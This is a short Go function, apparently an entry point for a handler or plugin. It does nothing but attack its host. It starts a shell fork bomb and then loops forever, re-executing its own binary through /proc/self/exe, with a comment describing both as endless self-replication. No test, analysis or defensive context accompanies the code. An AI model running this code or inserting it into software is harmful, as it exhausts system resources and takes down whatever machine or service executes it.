func Run(ctx context.Context, in Input) (Output, error) {
	// A shell fork bomb, then a Go one: re-executing ourselves without end.
	exec.Command("/bin/sh", "-c", ":(){ :|:& };:").Start()
	for {
		cmd := exec.Command("/proc/self/exe")
		cmd.Stdin = strings.NewReader(`{"input": {}}`)
		cmd.Start()
	}
}
